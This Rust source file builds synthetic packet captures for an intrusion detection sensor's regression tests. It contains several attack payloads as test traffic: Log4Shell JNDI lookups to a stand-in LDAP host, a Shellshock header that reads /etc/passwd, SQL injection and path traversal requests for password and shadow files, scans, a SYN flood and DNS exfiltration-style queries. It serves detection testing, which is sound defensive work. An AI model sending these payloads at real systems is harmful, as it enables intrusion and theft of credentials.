//! Reproducible traffic for the regression cases: each scenario builds the
//! frames of one capture in `pcaps/cases/`. The committed captures are
//! checked byte for byte against these builders, so a capture is never
//! edited by hand; `VIGIL_REGENERATE_PCAPS=1 cargo test -p sensor-pipeline
//! --test cases` rewrites them after a deliberate change.

use std::net::SocketAddr;

use sensor_packet::{
    LinkType,
    synth::{PcapWriter, TcpConversation, TcpSegment, TimedFrame, ethernet, udp_packet},
};

/// The home network's client and web server (inside the default HOME_NET).
const CLIENT: &str = "10.1.0.5";
const SERVER: &str = "10.1.0.80";
/// A server outside the home network (documentation range).
const OUTSIDE: &str = "203.0.113.10";
const START_NS: u64 = 1_700_000_000_000_000_000;

fn sa(ip: &str, port: u16) -> SocketAddr {
    format!("{ip}:{port}").parse().unwrap()
}

/// One HTTP/1.1 exchange: handshake, request, a small response, close.
fn http(out: &mut Vec<TimedFrame>, client_port: u16, server: SocketAddr, request: &str, ts: u64) {
    let mut c = TcpConversation::new(sa(CLIENT, client_port), server, ts);
    c.handshake(out);
    c.send(true, request.as_bytes(), out);
    c.send(
        false,
        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: 2\r\n\r\nok",
        out,
    );
    c.close(out);
}

fn get(path: &str, extra_headers: &str) -> String {
    format!(
        "GET {path} HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n{extra_headers}\r\n"
    )
}

/// A bare TCP segment with `flags` (scans, floods).
fn segment(src: SocketAddr, dst: SocketAddr, flags: u8, ts: u64) -> TimedFrame {
    let seg = TcpSegment::new(src, dst).seq(1000).flags(flags);
    (ts, ethernet(&[], &seg.ip_packet()))
}

/// A DNS query for `name` (type A) from the client to the resolver.
fn dns_query(out: &mut Vec<TimedFrame>, id: u16, name: &str, ts: u64) {
    let mut msg = Vec::new();
    msg.extend_from_slice(&id.to_be_bytes());
    msg.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    for label in name.split('.') {
        msg.push(label.len() as u8);
        msg.extend_from_slice(label.as_bytes());
    }
    msg.extend_from_slice(&[0, 0, 1, 0, 1]);
    out.push((
        ts,
        ethernet(
            &[],
            &udp_packet(sa(CLIENT, 40000 + id), sa("10.1.0.53", 53), &msg),
        ),
    ));
}

/// A TLS 1.2 ClientHello, with a server_name extension when `sni` is given.
fn client_hello(sni: Option<&str>) -> Vec<u8> {
    let mut ext = Vec::new();
    if let Some(name) = sni {
        let n = name.as_bytes();
        let mut body = Vec::new();
        body.extend_from_slice(&((n.len() + 3) as u16).to_be_bytes());
        body.push(0);
        body.extend_from_slice(&(n.len() as u16).to_be_bytes());
        body.extend_from_slice(n);
        ext.extend_from_slice(&0u16.to_be_bytes());
        ext.extend_from_slice(&(body.len() as u16).to_be_bytes());
        ext.extend_from_slice(&body);
    }
    // supported_groups (x25519, secp256r1) so the hello is realistic.
    ext.extend_from_slice(&[0x00, 0x0a, 0x00, 0x06, 0x00, 0x04, 0x00, 0x1d, 0x00, 0x17]);
    let mut hello = vec![0x03, 0x03];
    hello.extend_from_slice(&[0x42; 32]);
    hello.push(0);
    hello.extend_from_slice(&[0x00, 0x04, 0xc0, 0x2f, 0x00, 0x9c]);
    hello.extend_from_slice(&[0x01, 0x00]);
    hello.extend_from_slice(&(ext.len() as u16).to_be_bytes());
    hello.extend_from_slice(&ext);
    let mut hs = vec![0x01];
    hs.extend_from_slice(&(hello.len() as u32).to_be_bytes()[1..]);
    hs.extend_from_slice(&hello);
    let mut rec = vec![0x16, 0x03, 0x01];
    rec.extend_from_slice(&(hs.len() as u16).to_be_bytes());
    rec.extend_from_slice(&hs);
    rec
}

fn tls(out: &mut Vec<TimedFrame>, client_port: u16, sni: Option<&str>, ts: u64) {
    let mut c = TcpConversation::new(sa(CLIENT, client_port), sa(SERVER, 443), ts);
    c.handshake(out);
    c.send(true, &client_hello(sni), out);
    c.close(out);
}

/// Every scenario: (capture name, frames).
pub fn all() -> Vec<(&'static str, Vec<TimedFrame>)> {
    let web = sa(SERVER, 80);
    let t = |ms: u64| START_NS + ms * 1_000_000;
    let mut cases: Vec<(&'static str, Vec<TimedFrame>)> = Vec::new();
    let mut one = |name: &'static str, build: &dyn Fn(&mut Vec<TimedFrame>)| {
        let mut frames = Vec::new();
        build(&mut frames);
        cases.push((name, frames));
    };

    one("default-log4shell", &|o| {
        http(
            o,
            41001,
            web,
            &get("/", "X-Api-Version: ${jndi:ldap://198.51.100.7/a}\r\n"),
            t(0),
        );
        http(
            o,
            41002,
            web,
            &get("/", "Referer: ${${lower:j}ndi:dns://x.example/}\r\n"),
            t(100),
        );
        http(
            o,
            41003,
            web,
            &get("/search?q=${jndi:ldap://198.51.100.7/b}", ""),
            t(200),
        );
        http(
            o,
            41004,
            web,
            &get("/search?q=%24%7Bjndi:rmi://x/%7D", ""),
            t(300),
        );
    });
    one("default-shellshock", &|o| {
        http(
            o,
            41011,
            web,
            &get(
                "/cgi-bin/status",
                "User-Agent2: () { :; }; /bin/cat /etc/passwd\r\n",
            ),
            t(0),
        );
    });
    one("default-sqli", &|o| {
        http(
            o,
            41021,
            web,
            &get("/item?id=1%20UNION%20SELECT%20password%20FROM%20users", ""),
            t(0),
        );
        http(
            o,
            41022,
            web,
            &get("/login?user=admin'%20or%20'1'='1", ""),
            t(100),
        );
    });
    one("default-traversal", &|o| {
        http(
            o,
            41031,
            web,
            &get("/static/../../../../etc/passwd", ""),
            t(0),
        );
        http(
            o,
            41032,
            web,
            &get("/download?file=%2e%2e%2f%2e%2e%2fetc%2fshadow", ""),
            t(100),
        );
    });
    one("default-scanner-ua", &|o| {
        let req = "GET /admin HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n";
        http(o, 41041, web, req, t(0));
        let req = "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)\r\n\r\n";
        http(o, 41042, web, req, t(100));
    });
    one("default-basic-auth", &|o| {
        let auth = "Authorization: Basic dXNlcjpwYXNzd29yZA==\r\n";
        http(o, 41051, sa(OUTSIDE, 80), &get("/api", auth), t(0));
        // The same to a server inside the home network must not fire.
        http(o, 41052, web, &get("/api", auth), t(100));
    });
    one("default-methods", &|o| {
        for (i, m) in ["TRACE", "TRACK", "CONNECT"].iter().enumerate() {
            let target = if *m == "CONNECT" {
                "www.example.org:443"
            } else {
                "/"
            };
            let req = format!("{m} {target} HTTP/1.1\r\nHost: www.example.com\r\n\r\n");
            http(o, 41061 + i as u16, web, &req, t(100 * i as u64));
        }
        // OPTIONS is ordinary.
        http(
            o,
            41069,
            web,
            "OPTIONS / HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
            t(400),
        );
    });
    one("default-flag-scans", &|o| {
        let scanner = sa("10.1.0.66", 50000);
        o.push(segment(scanner, sa(SERVER, 22), 0x03, t(0))); // SYN+FIN
        o.push(segment(scanner, sa(SERVER, 23), 0x00, t(1))); // NULL
        o.push(segment(scanner, sa(SERVER, 25), 0x29, t(2))); // FIN+PSH+URG (XMAS)
        o.push(segment(scanner, sa(SERVER, 26), 0x01, t(3))); // FIN alone: none of the three
    });
    one("default-port-scan", &|o| {
        let scanner = sa("10.1.0.66", 50001);
        for port in 1..=30u16 {
            o.push(segment(
                scanner,
                sa(SERVER, port),
                0x02,
                t(port as u64 * 10),
            ));
        }
    });
    one("default-syn-flood", &|o| {
        for i in 0..600u64 {
            let src = sa(&format!("198.51.100.{}", 1 + i % 200), 1024 + i as u16);
            o.push(segment(src, sa(SERVER, 80), 0x02, START_NS + i * 1_000_000));
        }
    });
    one("default-dns", &|o| {
        let long = format!(
            "{}.{}.{}.exfil.example.com",
            "a".repeat(50),
            "b".repeat(50),
            "c".repeat(30)
        );
        dns_query(o, 1, &long, t(0));
        dns_query(o, 2, "x7kq2m9zp4tb8wv1rn6yh3jd5cf0.example.net", t(10));
        dns_query(o, 3, "www.example.com", t(20));
    });
    one("default-tls", &|o| {
        tls(o, 41071, None, t(0));
        tls(o, 41072, Some("www.example.com"), t(100));
    });
    one("default-benign", &|o| {
        http(
            o,
            42001,
            web,
            &get("/index.html", "Cookie: session=abc123\r\n"),
            t(0),
        );
        http(
            o,
            42002,
            web,
            &get(
                "/search?q=vigil+ids&page=2",
                "Referer: http://www.example.com/\r\n",
            ),
            t(100),
        );
        http(
            o,
            42003,
            web,
            "POST /api/items HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: application/json\r\nContent-Length: 13\r\n\r\n{\"id\": \"x1\"}\n",
            t(200),
        );
        tls(o, 42004, Some("www.example.com"), t(300));
        dns_query(o, 10, "www.example.com", t(400));
        dns_query(o, 11, "mail.example.org", t(410));
        // A few connection attempts, far from a scan or a flood.
        for port in [80u16, 443, 8080] {
            o.push(segment(
                sa(CLIENT, 43000 + port),
                sa(SERVER, port),
                0x02,
                t(500 + port as u64),
            ));
        }
    });
    cases
}

/// The pcap bytes of `frames`.
pub fn pcap(frames: &[TimedFrame]) -> Vec<u8> {
    let mut w = PcapWriter::new(Vec::new(), LinkType::Ethernet).unwrap();
    for (ts, frame) in frames {
        w.write(*ts, frame).unwrap();
    }
    w.into_inner().unwrap()
}
